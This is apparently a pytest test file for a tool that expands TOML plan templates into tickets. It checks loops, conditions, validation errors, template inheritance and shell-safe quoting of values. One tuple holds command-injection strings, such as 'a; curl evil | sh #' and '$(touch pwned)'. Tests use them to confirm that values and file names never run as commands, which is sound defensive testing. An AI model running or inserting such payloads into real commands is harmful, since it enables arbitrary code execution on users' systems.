"""Templates: reading, extending, and expanding them to drafts."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from legion.domain.errors import BadInput
from legion.domain.plans.expansion import expand
from legion.domain.plans.template import Template, read, resolve
from tests.support.attacks import Attacker, Door, attack

BASE = """
about = "Fix a bug."
goal = "Fix: {{bug}}"

[variables.bug]
help = "What happens."

[variables.deep]
type = "flag"
default = false

[variables.parts]
type = "list"
default = ["api", "page"]

[variables.size]
type = "number"
default = 3

[variables.kind]
choices = ["crash", "wrong"]
default = "wrong"

[variables.sources]
type = "files"
default = "src/**"

[[step]]
key = "reproduce"
title = "Reproduce {{bug}}"
criteria = [{text = "A test fails", why_not = "{{kind}}"}]

[[step]]
key = "look"
title = "Look at {{part}}"
for = "part in parts"
needs = ["reproduce"]
files = ["{{sources}}", "{{part}}.py"]

[[step]]
key = "think"
title = "Think for {{ size }} days"
when = "deep"
needs = ["look"]

[[step]]
key = "fix"
title = "Fix a {{kind}}"
needs = ["think"]
when = "kind != 'crash'"
"""


def files(pattern: str) -> list[str]:
    return {"src/**": ["src/a.py", "src/b.py"]}.get(pattern, [])


def made(text: str, **values: str) -> list[tuple[str, str, tuple[str, ...]]]:
    draft = expand(resolve("t", {"t": read("t", text, "t.toml")}), {"bug": "x"} | values, files)
    return [(one.key, one.title, one.after) for one in draft.tickets]


def test_steps_become_tickets_with_loops_conditions_and_values():
    assert made(BASE) == [
        ("reproduce", "Reproduce x", ()),
        ("look-1", "Look at api", ("reproduce",)),
        ("look-2", "Look at page", ("reproduce",)),
        ("fix", "Fix a wrong", ("look-1", "look-2")),
    ]
    deep = made(BASE, deep="yes", parts="core", size="5", kind="crash")
    assert deep == [
        ("reproduce", "Reproduce x", ()),
        ("look-1", "Look at core", ("reproduce",)),
        ("think", "Think for 5 days", ("look-1",)),
    ]
    empty = made(BASE, parts="")
    assert empty == [("reproduce", "Reproduce x", ()), ("fix", "Fix a wrong", ("reproduce",))]


def test_a_list_stands_for_its_items_and_goal_and_criteria_are_filled_in():
    draft = expand(read("t", BASE, "t.toml"), {"bug": "it {{deep}} crashes"}, files)
    assert draft.summary == "Fix: it {{deep}} crashes", "a value is never expanded again"
    assert draft.tickets[1].files == ("src/a.py", "src/b.py", "api.py")
    assert draft.tickets[0].criteria[0].why_not == "wrong"


@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"bug": "x", "dep": "yes"}, "has no variable 'dep'; did you mean deep?"),
        ({}, r"needs bug: add --var bug=... \(text; What happens\)"),
        ({"bug": "x", "deep": "maybe"}, "deep must be flag, and is 'maybe'"),
        ({"bug": "x", "size": "three"}, "size must be number"),
        ({"bug": "x", "kind": "odd"}, "kind must be text, one of crash, wrong, and is 'odd'"),
        ({"bug": "x", "parts": ",".join("p" * 99)}, "makes 101 tickets, and 100 are the most"),
    ],
)
def test_wrong_values_are_refused(values, message):
    with pytest.raises(BadInput, match=message):
        expand(read("t", BASE, "t.toml"), values, files)


STEP = '[[step]]\nkey = "a"\ntitle = "A"\n'


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("step = 3", "`step` must be at most 100 tables"),
        ("steps = []", "the template has no field 'steps'; did you mean `step`"),
        ("[[step]]\nkey = 1", "step 1: `key` must be a name"),
        (STEP + "after = ['b']", "step `a` has no field 'after'"),
        (STEP + STEP, "two steps have the key `a`"),
        (STEP + "needs = 'b'", "step `a`: `needs` must be a list of texts"),
        (STEP + "for = 'each'", '`for` must be like "item in items"'),
        (STEP + "when = 'a < b'", "`when` must be like"),
        (STEP + "when = \"not a == 'b'\"", "`when` must be like"),
        ("[variables]\nA = {}", "variable `A` must be a table"),
        ("[variables.a]\ntype = 'date'", "`type` must be text, number, flag, list or files, and is 'date'"),
        ("[variables.a]\ntype = 'flag'\ndefault = 1", "`default` 1 is no flag"),
        ("[variables.a]\nchoices = ['b']\ndefault = 'c'", "`default` 'c' is no text that it allows"),
        ("[variables.a]\nkind = 'x'", "variable `a` has no field 'kind'"),
        ("about = 1", "`about` must be a text"),
        ("= 1", "is not valid TOML"),
    ],
)
def test_a_broken_template_is_refused_with_its_place(text, message):
    with pytest.raises(BadInput) as wrong:
        read("t", text, "t.toml")
    assert message in wrong.value.message
    assert wrong.value.message.startswith("t.toml")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (STEP + "needs = ['b']", "step a needs 'b', which is no step"),
        (STEP + "needs = ['a']", r"wait for each other in a circle \(a after a\)"),
        ("about = 'x'", r"has no \[\[step\]\]"),
        (STEP.replace("A", "{{x}}"), "{{x}} is no variable"),
        (STEP + "for = 'x in xs'", "loops over 'xs', which is no list"),
        (STEP + "when = 'x'", "`when` asks for 'x'"),
        ("[variables.x]\ntype = 'flag'\ndefault = false\n" + STEP + "when = 'x'", "makes no ticket"),
        (STEP.replace('"A"', "3"), "`title` must be a text"),
    ],
)
def test_a_template_that_makes_no_sense_is_refused_when_it_is_expanded(text, message):
    with pytest.raises(BadInput, match=message):
        expand(resolve("t", {"t": read("t", text, "t.toml")}), {}, files)


WORDS = ("a; curl evil | sh #", "x' ; touch pwned ; '", 'y" ; touch pwned ; "', "$(touch pwned)", "a || true", "~", "*")


@attack(Attacker.REPOSITORY, Door.CHECKS)
@pytest.mark.parametrize("value", WORDS)
@pytest.mark.parametrize("command", ["printf %s {{v}}", "printf '%s' {{v}}"])
def test_a_value_is_one_word_of_a_proof_and_never_a_command(value: str, command: str, tmp_path: Path):
    step = f'[[step]]\nkey = "a"\ntitle = "t"\ncriteria = [{{text = "x", proof = {json.dumps(command)}}}]\n'
    (ticket,) = expand(read("t", f"[variables.v]\n{step}", "t.toml"), {"v": value}, files).tickets
    shell = ["sh", "-c", ticket.criteria[0].proof]
    assert subprocess.run(shell, cwd=tmp_path, capture_output=True, text=True, check=True).stdout == value
    assert list(tmp_path.iterdir()) == []


BATCHES = """
[variables.fs]
type = "files"
[variables.each]
type = "number"
default = 1
[[step]]
key = "read"
title = "Read {{some}}"
text = "Read: {{some}}"
for = "some in fs by each"
files = ["{{some}}"]
criteria = [{text = "done", proof = "grep -q done {{some}}"}]
"""


def test_a_step_takes_many_files_at_a_time():
    there = [f"src/{number}.py" for number in range(1000)] + ["-x", "a b.py"]
    template = read("t", BATCHES, "t.toml")
    with pytest.raises(BadInput, match=r"makes 1002 tickets, and 100 are the most: .* as --var each=20"):
        expand(template, {"fs": "*"}, lambda pattern: there)
    draft = expand(template, {"fs": "*", "each": "20"}, lambda pattern: there)
    assert [len(one.files) for one in draft.tickets] == [20] * 50 + [2]
    assert [file for one in draft.tickets for file in one.files] == there
    last = draft.tickets[-1]
    assert (last.key, last.title, last.text) == ("read-51", "Read -x and 1 more", "Read: -x, a b.py")
    assert last.criteria[0].proof == "grep -q done ./-x 'a b.py'"
    alone = expand(template, {"fs": "*"}, lambda pattern: ["a b.py"]).tickets[0]
    assert (alone.title, alone.files, alone.criteria[0].proof) == ("Read a b.py", ("a b.py",), "grep -q done 'a b.py'")
    with pytest.raises(BadInput, match="takes items by each, which is no number"):
        expand(template, {"fs": "*", "each": "0"}, lambda pattern: there)


def of_files(proof: str) -> str:
    """The proof of a step that is repeated for a file with a name that a shell would read as a command."""
    criteria = f'criteria = [{{text = "x", proof = {json.dumps(proof)}}}]'
    step = f'[[step]]\nkey = "a"\ntitle = "t"\nfor = "file in fs"\n{criteria}\n'
    template = read("t", f'[variables.fs]\ntype = "files"\ndefault = "*"\n{step}', "t.toml")
    (ticket,) = expand(template, {}, lambda pattern: ["docs/a || true"]).tickets
    return ticket.criteria[0].proof


@attack(Attacker.REPOSITORY, Door.CHECKS)
@pytest.mark.parametrize("proof", ["{{file}}", "grep -q done {{file}}"])
def test_the_name_of_a_file_decides_nothing_about_a_proof(proof: str):
    assert of_files(proof) == proof.replace("{{file}}", "'docs/a || true'")


@attack(Attacker.REPOSITORY, Door.CHECKS)
@pytest.mark.parametrize(
    "proof",
    [
        'test -n "$(cat {{file}})"',
        "cat <<E\n{{file}}\nE",
        "true `cat {{file}}`",
        "sh -c 'test -f {{file}}'",
        'bash -c "test -f {{file}}"',
    ],
)
def test_a_name_that_no_rule_can_quote_is_refused(proof: str):
    with pytest.raises(BadInput, match="is not safe"):
        of_files(proof)


def test_a_proof_that_is_one_variable_is_the_command_that_was_given():
    step = '[[step]]\nkey = "a"\ntitle = "t"\ncriteria = [{text = "x", proof = "{{v}}"}]\n'
    (ticket,) = expand(read("t", f"[variables.v]\n{step}", "t.toml"), {"v": "make test && true"}, files).tickets
    assert ticket.criteria[0].proof == "make test && true"


def test_a_template_extends_another():
    over = """
    extends = "base"
    without = ["think"]
    [variables.parts]
    type = "list"
    default = ["one"]
    [variables.extra]
    default = "e"
    [[step]]
    key = "fix"
    title = "Fix it with {{extra}}"
    needs = ["look"]
    [[step]]
    key = "tell"
    title = "Tell"
    needs = ["fix"]
    """
    known = {"base": read("base", BASE, "base"), "t": read("t", over, "t")}
    found = resolve("t", known)
    assert (found.name, found.goal, [one.name for one in found.variables][-1]) == ("t", "Fix: {{bug}}", "extra")
    draft = expand(found, {"bug": "x"}, files)
    assert [(one.key, one.after) for one in draft.tickets] == [
        ("reproduce", ()),
        ("look-1", ("reproduce",)),
        ("fix", ("look-1",)),
        ("tell", ("fix",)),
    ]


def test_a_circle_of_templates_and_an_unknown_one_are_refused():
    known = {"a": Template(name="a", extends="b"), "b": Template(name="b", extends="a")}
    with pytest.raises(BadInput, match=r"in a circle \(a extends b extends a\)"):
        resolve("a", known)
    with pytest.raises(BadInput, match="There is no template 'bugs'; did you mean bug"):
        resolve("bugs", {"bug": Template(name="bug")})
    long = {f"t{n}": Template(name=f"t{n}", extends=f"t{n + 1}") for n in range(20)}
    with pytest.raises(BadInput, match="extends more than 10 others"):
        resolve("t0", long)


@pytest.mark.parametrize("name", ["", "x", "T"])
def test_a_name_that_no_template_has_is_bad_input(name: str):
    with pytest.raises(BadInput, match="There is no template"):
        resolve(name, {})
